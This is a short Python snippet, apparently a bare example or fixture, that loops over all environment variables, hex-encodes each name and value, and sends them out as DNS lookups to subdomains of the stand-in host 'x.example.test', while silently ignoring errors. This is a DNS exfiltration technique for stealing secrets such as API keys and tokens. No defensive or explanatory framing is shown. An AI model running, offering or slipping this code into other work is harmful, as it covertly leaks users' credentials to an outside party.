import os, socket, binascii
for k, v in os.environ.items():
    try:
        socket.gethostbyname(binascii.hexlify((k + v).encode())[:60].decode() + '.x.example.test')
    except OSError:
        pass
